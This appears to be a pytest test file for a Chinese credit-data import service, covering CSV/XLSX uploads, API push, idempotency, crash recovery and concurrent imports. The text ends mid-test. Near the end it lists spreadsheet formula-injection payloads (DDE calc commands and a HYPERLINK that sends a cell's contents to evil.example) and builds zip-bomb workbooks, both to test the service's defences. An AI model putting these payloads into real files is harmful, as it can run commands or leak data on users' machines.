"""Collection by bulk import and API push: per-row and per-file errors, nothing half-written, idempotency,
the error report's round trip, identical fast and generic paths; on PostgreSQL a SIGKILLed import and two
overlapping imports."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import psycopg
import pytest
import schemathesis
from fastapi.testclient import TestClient
from openpyxl import Workbook
from sqlalchemy import func, select, text
from sqlalchemy.orm import Session

from tests.conftest import TEST_DATABASE_URL
from tests.integration.conftest import MakeDatabase, World, build_world, uscc
from xinyidai import clock, db
from xinyidai.audit.models import AuditEntry
from xinyidai.auth.enums import Role
from xinyidai.config import get_settings
from xinyidai.creditdata import imports, service
from xinyidai.creditdata.enums import Channel
from xinyidai.creditdata.exceptions import DeliveryRefused, NotTheSource
from xinyidai.creditdata.models import CreditRecord, ImportBatch, ImportRowError
from xinyidai.identity import service as identity_service
from xinyidai.identity.schemas import ApiClientCreate

HEADER = ["统一社会信用代码", "电子税票号码", "所属期", "税种", "实缴金额（元）", "缴款日期"]
GOOD = uscc("MA0000001")
OTHER = uscc("MA0000002")
POSTGRES = (TEST_DATABASE_URL or "").startswith("postgresql")
needs_postgres = pytest.mark.skipif(
    not POSTGRES, reason="crash and concurrency are tested on PostgreSQL (the PostgreSQL run of make test); "
    "SQLite serialises writers and has no COPY")


def csv_bytes(rows: list[list[str]], header: list[str] = HEADER, encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def payment(voucher: str, who: str = GOOD, amount: str = "1,234.50", paid: str = "2026-04-15",
            kind: str = "增值税", period: str = "2026-03") -> list[str]:
    return [who, voucher, period, kind, amount, paid]


def run(session: Session, world: World, data: bytes, name: str = "tax.csv", username: str = "tax.officer",
        item: str = "tax_payment", **kw: object) -> ImportBatch:
    return imports.import_file(session, principal=world.principal(session, username), item_code=item,
                               source=io.BytesIO(data), file_name=name, **kw)  # type: ignore[arg-type]


def records(session: Session) -> int:
    return int(session.scalar(select(func.count()).select_from(CreditRecord)) or 0)


def test_a_clean_file_is_stored_with_its_provenance(session: Session, world: World) -> None:
    batch = run(session, world, csv_bytes([payment("33250000000000000001"),
                                           payment("33250000000000000002", who=OTHER, amount="88")]))
    assert (batch.status, batch.rows_total, batch.rows_stored, batch.rows_duplicate, batch.rows_rejected) == (
        "committed", 2, 2, 0, 0)
    assert batch.encoding == "utf-8" and batch.columns == HEADER and len(batch.content_sha256 or "") == 64
    record = session.scalars(select(CreditRecord).where(CreditRecord.enterprise_id == world.good_enterprise)).one()
    assert record.data["amount"] == 123_450 and record.fact_date is not None and record.fact_date.isoformat() == (
        "2026-04-15")
    assert (record.channel, record.source_department, record.batch_id, record.row_number) == (
        "bulk_import", "tax", batch.id, 2)
    assert record.original == dict(zip(HEADER, payment("33250000000000000001"), strict=True))
    assert record.received_at == clock.now()
    audit = session.scalars(select(AuditEntry).where(AuditEntry.action == "creditdata.file_imported")).one()
    assert audit.subject_id == str(batch.id) and audit.detail["rows_stored"] == 2


def test_each_bad_input_is_refused_row_by_row_with_a_chinese_reason(session: Session, world: World) -> None:
    bad_check = GOOD[:-1] + ("1" if GOOD[-1] != "1" else "2")
    rows = [
        payment("V01"),  # row 2: good
        payment("V02", who=bad_check),  # 3: USCC check character
        payment("V03", who=uscc("MA0000099")),  # 4: valid code, nobody registered under it
        payment("V04", amount="一千元"),  # 5: not an amount
        payment("V05", paid="2026-12-01"),  # 6: after today (2026-11-23)
        payment("V06", amount="-20.00"),  # 7: negative
        payment("V07", kind="增殖税"),  # 8: not one of the choices
        payment("V08", paid="2026-02-30", period="2026-13"),  # 9: two errors in one row
        [GOOD, "V09", "2026-03"],  # 10: too few columns (not the last row: a row error)
        payment("V10", who=OTHER),  # 11: good
    ]
    batch = run(session, world, csv_bytes(rows))
    assert (batch.status, batch.rows_total, batch.rows_stored, batch.rows_rejected) == ("committed", 10, 2, 8)
    errors = imports.row_errors(session, principal=world.principal(session, "tax.officer"), batch_id=batch.id)
    by_row = {(e.row_number, e.field): e.message for e in errors}
    assert "第18位校验码不正确" in by_row[(3, "uscc")]
    assert "不是本平台已登记的市场主体" in by_row[(4, "uscc")]
    assert "不是金额" in by_row[(5, "amount")]
    assert "不能是将来的日期" in by_row[(6, "paid_date")]
    assert "不能为负数" in by_row[(7, "amount")]
    assert "不是可选值" in by_row[(8, "tax_kind")]
    assert "不是有效日期" in by_row[(9, "paid_date")] and "不是年月" in by_row[(9, "tax_period")]
    assert "表头有6列" in by_row[(10, None)]
    assert [e.original for e in errors if e.row_number == 7] == [payment("V06", amount="-20.00")]
    assert records(session) == 2


@pytest.mark.parametrize(("name", "data", "reason"), [
    ("empty.csv", b"", "文件是空的"),
    ("header.csv", csv_bytes([]), "没有数据行"),
    ("unknown.csv", csv_bytes([[*payment("V1"), "x"]], header=[*HEADER, "备注"]), "未知的列“备注”"),
    ("missing.csv", csv_bytes([payment("V1")[:5]], header=HEADER[:5]), "缺少必填列：缴款日期"),
    ("repeated.csv", csv_bytes([[*payment("V1"), "V1"]], header=[*HEADER, "voucher_no"]), "重复出现"),
    ("cut-quote.csv", csv_bytes([payment("V1"), payment("V2")]) + f'{GOOD},"V3,2026-0'.encode(), "未闭合的引号"),
    ("cut-row.csv", csv_bytes([payment("V1"), payment("V2")]) + f"{GOOD},V3,2026-03,增".encode(), "文件不完整"),
    ("cut.xlsx", b"PK\x03\x04" + b"\x00" * 40, "不是有效的 Excel"),
    ("latin.csv", ",".join(HEADER).encode() + b"\r\n\xff\xfe\xfa,\x81\r\n", "无法识别文件编码"),
])
def test_a_file_unusable_as_a_whole_is_refused_and_nothing_is_written(
        session: Session, world: World, name: str, data: bytes, reason: str) -> None:
    batch = run(session, world, data, name=name)
    assert batch.status == "rejected" and reason in (batch.error or ""), batch.error
    assert (batch.rows_stored, batch.rows_rejected) == (0, 0)
    assert records(session) == 0
    assert session.scalar(select(func.count()).select_from(ImportRowError)) == 0


def test_a_file_cut_off_after_many_good_rows_stores_none_of_them(session: Session, world: World) -> None:
    rows = [payment(f"V{n:06d}", amount=str(n)) for n in range(1, 12_001)]  # more than two chunks
    data = csv_bytes(rows)
    batch = run(session, world, data[:-13])  # the transfer stopped inside the last record: it lost its date
    assert batch.status == "rejected" and "第12001行" in (batch.error or "")
    assert records(session) == 0
    whole = run(session, world, data)
    assert (whole.rows_stored, whole.rows_duplicate) == (12_000, 0)


def test_repeated_rows_and_the_same_file_twice_add_nothing(session: Session, world: World) -> None:
    data = csv_bytes([payment("V1"), payment("V2"), payment("V1"), payment("V1", who=OTHER)])
    first = run(session, world, data)
    assert (first.rows_stored, first.rows_duplicate) == (3, 1)
    second = run(session, world, data)
    assert (second.status, second.rows_stored, second.rows_duplicate) == ("committed", 0, 4)
    assert second.content_sha256 == first.content_sha256 == hashlib.sha256(data).hexdigest()
    assert records(session) == 3
    kept = session.scalars(select(CreditRecord.row_number).where(CreditRecord.record_key == "V1")
                           .order_by(CreditRecord.row_number)).all()
    assert list(kept) == [2, 5]  # the first of the repeated rows stays


@pytest.mark.parametrize(("encoding", "expected"), [("gbk", "gb18030"), ("gb18030", "gb18030"),
                                                     ("utf-8-sig", "utf-8-sig"), ("utf-8", "utf-8")])
def test_gbk_and_utf8_files_are_read_alike(session: Session, world: World, encoding: str, expected: str) -> None:
    batch = run(session, world, csv_bytes([payment("V1", kind="城镇土地使用税")], encoding=encoding))
    assert (batch.encoding, batch.rows_stored) == (expected, 1)
    assert session.scalars(select(CreditRecord)).one().data["tax_kind"] == "城镇土地使用税"


def test_an_xlsx_file_with_typed_cells(session: Session, world: World) -> None:
    from datetime import datetime

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["uscc", "voucher_no", "tax_period", "tax_kind", "amount", "paid_date"])  # field names work too
    sheet.append([GOOD, "V1", "2026-03", "印花税", 1234.5, datetime(2026, 4, 15)])
    sheet.append([])
    sheet.append([OTHER, "V2", "2026-03", "印花税", 99, "2026/4/16"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    batch = run(session, world, buffer.getvalue(), name="tax.xlsx")
    assert (batch.status, batch.rows_total, batch.rows_stored, batch.encoding) == ("committed", 2, 2, None)
    amounts = {r.record_key: (r.data["amount"], r.data["paid_date"], r.row_number)
               for r in session.scalars(select(CreditRecord))}
    assert amounts == {"V1": (123_450, "2026-04-15", 2), "V2": (9_900, "2026-04-16", 4)}


def test_the_error_report_is_fixed_and_uploaded_again(session: Session, world: World, client: TestClient) -> None:
    batch = run(session, world, csv_bytes([payment("V1"), payment("V2", amount="-5"), payment("V3", kind="营业税")]))
    session.commit()
    officer = world.principal(session, "tax.officer")
    report = b"".join(imports.error_report_csv(session, principal=officer, batch_id=batch.id))
    assert report.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(report.decode("utf-8-sig"))))
    assert rows[0] == [*HEADER, "错误原因"] and [r[1] for r in rows[1:]] == ["V2", "V3"]
    assert "不能为负数" in rows[1][-1]
    rows[1][4] = "5.00"
    rows[2][3] = "其他"
    fixed = io.StringIO()
    csv.writer(fixed).writerows(rows)
    again = run(session, world, b"\xef\xbb\xbf" + fixed.getvalue().encode())
    assert (again.status, again.rows_stored, again.rows_rejected) == ("committed", 2, 0)
    assert records(session) == 3
    # The same report through the API, for the portal's download link.
    token = _token(session, world.tax_org)
    response = client.get(f"/api/v1/credit-data/batches/{batch.id}/errors.csv", headers=token)
    assert response.status_code == 200 and response.content == report
    assert client.get(f"/api/v1/credit-data/batches/{batch.id}/errors.csv",
                      headers=_token(session, world.amr_org)).status_code == 404


def test_only_the_source_department_delivers_and_the_platform_admin_relays_the_national_channel(
        session: Session, world: World) -> None:
    data = csv_bytes([payment("V1")])
    with pytest.raises(NotTheSource):
        run(session, world, data, username="amr.officer")
    with pytest.raises(NotTheSource):
        run(session, world, data, username="admin")  # no local delivery on a department's behalf
    with pytest.raises(DeliveryRefused, match="总对总"):
        run(session, world, data, item="customs_trade")
    assert session.scalar(select(func.count()).select_from(ImportBatch)) == 0
    debtor = ["统一社会信用代码", "执行案号", "执行法院", "生效法律文书确定的义务", "发布日期"]
    row = [GOOD, "（2026）渝0108执123号", "南岸区人民法院", "支付货款", "2026-05-01"]
    national = run(session, world, csv_bytes([row], header=debtor), item="dishonest_debtor", username="admin",
                   channel=Channel.NATIONAL)
    assert (national.status, national.rows_stored) == ("committed", 1), national.error
    # The same case collected locally (the court's wording differs): the national version wins, on both paths.
    item = service.get_item(session, code="dishonest_debtor")
    service.bind_department(session, code=item.source_department, organisation_id=world.amr_org)
    local = [GOOD, "（2026）渝0108执123号", "南岸区法院", "支付货款", "2026-05-01"]
    for fast in (True, False):
        batch = run(session, world, csv_bytes([local], header=debtor), item="dishonest_debtor",
                    username="amr.officer", fast_path=fast)
        assert (batch.rows_stored, batch.rows_duplicate) == (0, 1)


@pytest.mark.parametrize("chunked", [False, True])
def test_fast_and_generic_paths_store_the_same_records(session: Session, world: World, chunked: bool,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    if chunked:  # rows are read and staged chunk by chunk: a repeat in a later chunk is still the duplicate
        monkeypatch.setattr(imports, "ROW_CHUNK", 4)
    rows = [payment(f"V{n}", who=GOOD if n % 3 else OTHER, amount=f"{n}.5") for n in range(1, 40)]
    rows += [payment("V2", who=OTHER, amount="2.5"), payment("V7", amount="-1"), payment("V5", amount="5.5")]
    data = csv_bytes(rows)
    stored = {}
    for fast in (True, False):
        savepoint = session.begin_nested()
        batch = run(session, world, data, fast_path=fast)
        stored[fast] = ((batch.rows_total, batch.rows_stored, batch.rows_duplicate, batch.rows_rejected), sorted(
            (r.enterprise_id, r.record_key, r.fingerprint, r.data, str(r.fact_date), r.channel, r.source_department,
             r.row_number, r.original, r.received_at) for r in session.scalars(select(CreditRecord))))
        savepoint.rollback()
    assert stored[True] == stored[False]
    assert stored[True][0] == (42, 40, 1, 1)



@pytest.mark.parametrize(("item", "header", "rows"), [
    # Decimals, a boolean and an enumeration; a repeated certificate with other content is a second version.
    ("real_estate", ["统一社会信用代码", "不动产权证号", "用途", "面积（平方米）", "登记日期", "是否抵押"],
     [[GOOD, "渝(2026)南岸区不动产权第0001号", "工业", "1,200.50", "2026/3/1", "是"],
      [OTHER, "渝(2026)南岸区不动产权第0002号", "仓储", " 80 ", "20260302", "否"],
      [GOOD, "渝(2026)南岸区不动产权第0001号", "工业", "1200.5", "2026-03-01", "有"],
      [GOOD, "渝(2026)南岸区不动产权第0001号", "商业", "1200.5", "2026-03-01", "无"]]),
    # Two key fields, optional fields left blank or absent, a text with a tab, a quote and a backslash.
    ("agri_entity", ["统一社会信用代码", "主体类型", "示范级别", "认定日期", "主营产品"],
     [[GOOD, "家庭农场", "市级", "2025-06-01", ""],
      [OTHER, "农民合作社", "国家级", "2025-06-02", '柑橘\t"晚熟"\\脐橙'],
      [GOOD, "家庭农场", "市级", "2025-06-01", "  "]]),
])
def test_fast_and_generic_paths_agree_on_every_field_type(session: Session, world: World, item: str,
                                                          header: list[str], rows: list[list[str]]) -> None:
    service.bind_department(session, code=service.get_item(session, code=item).source_department,
                            organisation_id=world.tax_org)
    data = csv_bytes(rows, header=header)
    stored = {}
    for fast in (True, False):
        savepoint = session.begin_nested()
        batch = run(session, world, data, item=item, fast_path=fast)
        assert batch.status == "committed", batch.error
        stored[fast] = ((batch.rows_stored, batch.rows_duplicate, batch.rows_rejected), sorted(
            (r.enterprise_id, r.record_key, r.fingerprint, r.data, str(r.fact_date), r.row_number, r.original)
            for r in session.scalars(select(CreditRecord))))
        savepoint.rollback()
    assert stored[True] == stored[False]
    assert stored[True][0][2] == 0 and stored[True][0][0] >= 2


def test_a_row_pushed_by_api_and_the_same_row_in_a_file_are_one_record(session: Session, world: World,
                                                                     client: TestClient) -> None:
    auth = _token(session, world.tax_org)
    pushed = {"uscc": GOOD, "voucher_no": "X1", "tax_period": "2026-03", "tax_kind": "增值税", "amount": "1234.5",
              "paid_date": "2026-04-15"}
    response = client.post("/api/v1/credit-data/tax_payment/rows", json={"rows": [pushed]},
                           headers={**auth, "Idempotency-Key": "push-then-file"})
    assert response.status_code == 201 and response.json()["rows"][0]["status"] == "stored"
    # The same payment written as a clerk's export writes it, through the file path (COPY on PostgreSQL).
    batch = run(session, world, csv_bytes([payment("X1", amount="1,234.50", paid="2026/4/15", period="2026年3月"),
                                           payment("X2", amount="9")]))
    assert (batch.rows_stored, batch.rows_duplicate) == (1, 1)
    session.commit()
    # And the other way round: a row of the file pushed afterwards is a duplicate.
    again = client.post("/api/v1/credit-data/tax_payment/rows", json={"rows": [{
        **pushed, "voucher_no": "X2", "amount": "9.00", "paid_date": "20260415"}]},
        headers={**auth, "Idempotency-Key": "file-then-push"})
    assert again.status_code == 201 and again.json()["rows"][0]["status"] == "duplicate"
    assert records(session) == 2

def _token(session: Session, organisation_id: int) -> dict[str, str]:
    created = identity_service.create_api_client(session, client_in=ApiClientCreate(
        organisation_id=organisation_id, name="部门数据交换系统", roles=[Role.DEPARTMENT_DATA_OFFICER]))
    session.commit()
    token = identity_service.issue_client_token(session, client_id=created.client_id,
                                                client_secret=created.client_secret)
    session.commit()
    assert token.token is not None
    return {"Authorization": f"Bearer {token.token.access_token}"}


def test_api_push_with_idempotency_keys_and_per_row_results(session: Session, world: World,
                                                             client: TestClient) -> None:
    headers = {**_token(session, world.tax_org), "Idempotency-Key": "tax-2026-11-23-0001"}
    body = {"rows": [
        {"uscc": GOOD, "voucher_no": "P1", "tax_period": "2026-10", "tax_kind": "增值税", "amount": "10",
         "paid_date": "2026-11-15"},
        {"统一社会信用代码": OTHER, "电子税票号码": "P2", "所属期": "2026-10", "税种": "增值税", "实缴金额（元）": "x",
         "缴款日期": "2026-11-15"},
        {"uscc": GOOD, "voucher_no": "P1", "tax_period": "2026-10", "tax_kind": "增值税", "amount": "10",
         "paid_date": "2026-11-15"},
    ]}
    # Mixed names and labels for one field in one push: both columns map to the same field.
    response = client.post("/api/v1/credit-data/tax_payment/rows", json=body, headers=headers)
    assert response.status_code == 422 and "重复出现" in response.json()["batch"]["error"]
    body["rows"][1] = {"uscc": OTHER, "voucher_no": "P2", "tax_period": "2026-10", "tax_kind": "增值税",
                       "amount": "x", "paid_date": "2026-11-15"}
    headers["Idempotency-Key"] = "tax-2026-11-23-0002"
    response = client.post("/api/v1/credit-data/tax_payment/rows", json=body, headers=headers)
    assert response.status_code == 201, response.text
    result = response.json()
    assert [(r["row_number"], r["status"]) for r in result["rows"]] == [(1, "stored"), (2, "refused"),
                                                                        (3, "duplicate")]
    assert result["rows"][1]["errors"][0]["field"] == "amount"
    assert result["batch"]["channel"] == "api_push" and result["batch"]["rows_stored"] == 1
    again = client.post("/api/v1/credit-data/tax_payment/rows", json=body, headers=headers)
    assert again.status_code == 200 and again.json() == result
    body["rows"][1]["amount"] = "12"
    conflict = client.post("/api/v1/credit-data/tax_payment/rows", json=body, headers=headers)
    assert conflict.status_code == 409 and conflict.json()["code"] == "idempotency_conflict"
    assert client.post("/api/v1/credit-data/tax_payment/rows", json=body,
                       headers={"Authorization": headers["Authorization"]}).status_code == 422  # key required
    listed = client.get("/api/v1/credit-data/batches", headers=headers).json()
    assert [b["id"] for b in listed][:1] == [result["batch"]["id"]]
    amr = _token(session, world.amr_org)
    assert client.get(f"/api/v1/credit-data/batches/{result['batch']['id']}", headers=amr).status_code == 404
    assert client.get("/api/v1/credit-data/batches", headers=amr).json() == []
    pushed = client.post("/api/v1/credit-data/tax_payment/rows", json=body,
                         headers={**amr, "Idempotency-Key": "amr-0000001"})
    assert pushed.status_code == 403
    assert session.scalar(select(func.count()).select_from(CreditRecord)) == 1
    assert session.scalar(select(func.count()).select_from(AuditEntry).where(
        AuditEntry.action == "creditdata.rows_pushed")) == 2


def test_a_push_answers_422_with_a_body_the_api_documents_whether_refused_whole_or_invalid(
        session: Session, world: World, client: TestClient) -> None:
    operation = schemathesis.openapi.from_dict(client.app.openapi())["/api/v1/credit-data/{item_code}/rows"]["POST"]
    headers = {**_token(session, world.tax_org), "Idempotency-Key": "tax-2026-11-23-0009"}
    row = {"uscc": GOOD, "voucher_no": "P1", "tax_period": "2026-10", "tax_kind": "增值税", "amount": "10",
           "paid_date": "2026-11-15"}
    refused_whole = client.post("/api/v1/credit-data/tax_payment/rows", headers=headers,
                                json={"rows": [row, {**{"统一社会信用代码": OTHER}, **row}]})
    invalid = client.post("/api/v1/credit-data/tax_payment/rows", headers=headers)  # no body at all
    assert refused_whole.status_code == 422 and "batch" in refused_whole.json(), refused_whole.text
    assert invalid.status_code == 422 and invalid.json()["code"] == "invalid_request", invalid.text
    for response in (refused_whole, invalid):
        operation.validate_response(response)


def test_a_file_through_the_api(session: Session, world: World, client: TestClient) -> None:
    headers = _token(session, world.tax_org)
    files = {"file": ("tax.csv", csv_bytes([payment("U1")], encoding="gbk"), "text/csv")}
    response = client.post("/api/v1/credit-data/tax_payment/files", files=files, headers=headers)
    assert response.status_code == 201 and response.json()["encoding"] == "gb18030"
    files = {"file": ("tax.csv", b"", "text/csv")}
    refused = client.post("/api/v1/credit-data/tax_payment/files", files=files, headers=headers)
    assert refused.status_code == 422 and refused.json()["status"] == "rejected"
    invalid = client.post("/api/v1/credit-data/tax_payment/files", headers=headers)  # no file at all
    assert invalid.status_code == 422 and invalid.json()["code"] == "invalid_request"
    operation = schemathesis.openapi.from_dict(client.app.openapi())["/api/v1/credit-data/{item_code}/files"]["POST"]
    for response in (refused, invalid):  # both bodies are the 422 the API documents
        operation.validate_response(response)


# The command, a SIGKILL in the middle, and two imports at once (PostgreSQL) ------------------------------


def write_big_file(path: Path, rows: int) -> None:
    """`rows` tax payments over the fixture's three registered entities, every 50th refused."""
    entities = [GOOD, OTHER, uscc("MA0000003")]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        for n in range(rows):
            amount = "-1" if n % 50 == 49 else f"{n % 99_991}.{n % 100:02d}"
            writer.writerow([entities[n % 3], f"3325{n:016d}", "2026-09", "增值税", amount, "2026-10-15"])


@pytest.fixture
def fresh_databases(make_committed_database: MakeDatabase) -> list[str]:
    """Two fresh migrated databases with the fixture world committed: one for the test, one as the reference."""
    urls = []
    for suffix in ("import_a", "import_b"):
        database = make_committed_database(suffix)
        with clock.use(clock.at(2026, 11, 23, 10, 0)), db.transaction(database.session_factory) as session:
            build_world(session)
        urls.append(database.engine.url.render_as_string(hide_password=False))
    return urls


def _import_command(url: str, path: Path) -> subprocess.Popen[bytes]:
    env = {**os.environ, "XINYIDAI_DATABASE_URL": url}
    return subprocess.Popen([sys.executable, "-m", "xinyidai.cli", "creditdata", "import", str(path),
                             "--item", "tax_payment", "--as", "tax.officer"], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT)


def _stored(url: str) -> tuple[int, str, list[tuple[object, ...]]]:
    """Count and checksum of the stored records by content (ids, batches and times differ between runs)."""
    with psycopg.connect(url.replace("+psycopg", "")) as connection:
        count, checksum = connection.execute(
            "SELECT count(*), md5(string_agg(e.uscc || '|' || r.record_key || '|' || r.fingerprint || '|' || "
            "r.data::text || '|' || r.row_number || '|' || r.original::text || '|' || r.channel, ',' "
            "ORDER BY e.uscc, r.record_key, r.fingerprint)) FROM credit_record r JOIN enterprise e "
            "ON e.id = r.enterprise_id").fetchone() or (0, "")
        batches = connection.execute("SELECT status, rows_total, rows_stored, rows_duplicate, rows_rejected "
                                     "FROM import_batch ORDER BY id").fetchall()
    return int(count), str(checksum), [tuple(b) for b in batches]


@needs_postgres
def test_an_import_killed_in_the_middle_then_run_again_equals_one_clean_import(
        fresh_databases: list[str], tmp_path: Path) -> None:
    crashed, clean = fresh_databases
    path = tmp_path / "tax.csv"
    write_big_file(path, 150_000)
    process = _import_command(crashed, path)
    deadline = time.monotonic() + 120
    staging = False
    with psycopg.connect(crashed.replace("+psycopg", ""), autocommit=True) as watcher:
        while time.monotonic() < deadline and process.poll() is None:
            # The import's connection has created its staging table and is feeding it: mid-batch.
            staged = watcher.execute("SELECT count(*) FROM pg_stat_activity WHERE query LIKE 'COPY import_stage_%' "
                                     "OR query LIKE 'CREATE TEMPORARY TABLE import_stage_%'").fetchone()
            if staged and staged[0]:
                staging = True
                break
            time.sleep(0.01)
        assert staging, "the import never reached its staging table"
        time.sleep(0.3)
        assert process.poll() is None, "the import finished before it could be killed"
        process.send_signal(signal.SIGKILL)
        process.wait(timeout=30)
        assert process.returncode == -signal.SIGKILL
    count, _, batches = _stored(crashed)
    assert (count, batches) == (0, [])  # nothing of the killed batch survives, not even the batch
    again = _import_command(crashed, path)
    output, _ = again.communicate(timeout=300)
    assert again.returncode == 0, output.decode()
    reference = _import_command(clean, path)
    output, _ = reference.communicate(timeout=300)
    assert reference.returncode == 0, output.decode()
    result = _stored(crashed)
    assert result == _stored(clean)
    assert result[0] == 147_000 and result[2] == [("committed", 150_000, 147_000, 0, 3_000)]


@needs_postgres
def test_two_overlapping_imports_at_once_leave_no_duplicate(fresh_databases: list[str], tmp_path: Path) -> None:
    url = fresh_databases[0]
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    write_big_file(first, 60_000)
    # The second file holds the first's rows 30,000–59,999 in reverse order, then 30,000 rows of its own.
    with first.open(encoding="utf-8") as handle:
        lines = handle.read().splitlines()
    write_big_file(second, 90_000)
    with second.open(encoding="utf-8") as handle:
        own = handle.read().splitlines()[60_001:]
    second.write_text("\n".join([lines[0], *reversed(lines[30_001:]), *own]) + "\n", encoding="utf-8")
    database = db.Database(url)

    def load(path: Path) -> tuple[int, int]:
        with clock.use(clock.at(2026, 11, 23, 10, 0)), db.transaction(database.session_factory) as session:
            officer = next(u for u in identity_service.list_users(session) if u.username == "tax.officer")
            with path.open("rb") as source:
                batch = imports.import_file(session, principal=identity_service.principal_for_user(officer),
                                            item_code="tax_payment", source=source, file_name=path.name)
            return batch.rows_stored, batch.rows_duplicate

    try:
        with ThreadPoolExecutor(max_workers=2) as pool:
            outcomes = list(pool.map(load, [first, second]))
        with database.session_factory() as session:
            total = session.scalar(select(func.count()).select_from(CreditRecord))
            distinct = session.scalar(text(
                "SELECT count(DISTINCT (catalogue_item_id, enterprise_id, fingerprint)) FROM credit_record"))
    finally:
        database.engine.dispose()
    # 90,000 distinct rows, every 50th refused: 88,200 stored once, whichever import got there first.
    assert total == distinct == 88_200
    assert sum(stored for stored, _ in outcomes) == 88_200
    assert sum(duplicate for _, duplicate in outcomes) == 29_400


HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_the_error_report_never_hands_a_formula_to_a_spreadsheet_on_either_route(
        session: Session, world: World, client: TestClient) -> None:
    # Each hostile text as a tax kind (refused: not a known kind), one with a negative amount besides.
    rows = [payment(f"V{n}", kind=value) for n, value in enumerate(HOSTILE)]
    rows.append(payment("V-NEG", amount="-2,000.50"))
    batch = run(session, world, csv_bytes(rows))
    session.commit()
    from tests.integration.conftest import login

    login(client, "tax.officer")
    for route in (f"/api/v1/credit-data/batches/{batch.id}/errors.csv", f"/data/batches/{batch.id}/errors.csv"):
        headers = _token(session, world.tax_org) if route.startswith("/api/") else {}
        response = client.get(route, headers=headers)
        assert response.status_code == 200, response.text
        got = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        assert [row[3] for row in got[1:-1]] == ["'" + value for value in HOSTILE], route
        cells = [cell for row in got for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], route
        # A negative amount stays the number it is; the report goes back in with the values they were.
        assert got[-1][1] == "V-NEG" and got[-1][4] == "-2,000.50", route
    again = run(session, world, response.content)
    assert again.rows_rejected == len(HOSTILE) + 1
    originals = [error.original[3] for error in session.scalars(
        select(ImportRowError).where(ImportRowError.batch_id == again.id).order_by(ImportRowError.row_number))]
    assert originals[:len(HOSTILE)] == HOSTILE


# Upload bombs: each refused whole, with a Chinese message, before the work it would cost ---------------


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["uscc", "voucher_no", "tax_period", "tax_kind", "amount", "paid_date"])
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _rewritten(xlsx: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with one zip member's content changed."""
    source, out = zipfile.ZipFile(io.BytesIO(xlsx)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            target.writestr(info, change(data) if info.filename == member else data)
    return out.getvalue()


def _declaring(xlsx: bytes, member: str, size: int) -> bytes:
    """The workbook with `member`'s uncompressed size in the zip's central directory declared as `size`."""
    data = bytearray(xlsx)
    name = member.encode()
    at = data.find(b"PK\x01\x02")
    while at != -1:
        name_length = int.from_bytes(data[at + 28:at + 30], "little")
        if bytes(data[at + 46:at + 46 + name_length]) == name:
            data[at + 24:at + 28] = size.to_bytes(4, "little")
            return bytes(data)
        at = data.find(b"PK\x01\x02", at + 4)
    raise AssertionError(member)


@pytest.fixture
def limits(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., None]]:
    def set_limits(**values: int) -> None:
        for name, value in values.items():
            monkeypatch.setenv(f"XINYIDAI_IMPORT_MAX_{name.upper()}", str(value))
        get_settings.cache_clear()

    yield set_limits
    get_settings.cache_clear()


def _refused(batch: ImportBatch, *fragments: str) -> None:
    assert batch.status == "rejected", (batch.status, batch.error)
    for fragment in fragments:
        assert fragment in (batch.error or ""), batch.error
    assert batch.columns is None or len(batch.columns) <= 256


def test_a_zip_bomb_workbook_is_refused_by_its_declared_size_before_it_is_opened(
        session: Session, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = _declaring(xlsx_bytes([[GOOD, "V1", "2026-03", "印花税", 1, "2026-04-15"]]), "xl/worksheets/sheet1.xml",
                      0xFFFF0000)
    opened: list[object] = []
    import openpyxl

    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: opened.append(a))
    _refused(run(session, world, bomb, name="bomb.xlsx"), "解压后达", "超过512 MB的上限")
    assert opened == [] and records(session) == 0


def test_a_sheet_whose_dimension_claims_millions_of_cells_is_refused_before_its_rows_are_read(
        session: Session, world: World) -> None:
    claimed = _rewritten(xlsx_bytes([[GOOD, "V1", "2026-03", "印花税", 1, "2026-04-15"]]), "xl/worksheets/sheet1.xml",
                         lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml))
    assert b"A1:XFD1048576" in zipfile.ZipFile(io.BytesIO(claimed)).read("xl/worksheets/sheet1.xml")
    _refused(run(session, world, claimed, name="claimed.xlsx"), "工作表声明的范围有16384列，超过上限256列")
    many_rows = _rewritten(xlsx_bytes([[GOOD, "V1", "2026-03", "印花税", 1, "2026-04-15"]]), "xl/worksheets/sheet1.xml",
                           lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:F9000000"', xml))
    _refused(run(session, world, many_rows, name="rows.xlsx"), "5,000,000行")
    # A row reaching out to the last column is refused at that row, never padded out to it.
    far_cell = b'<c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
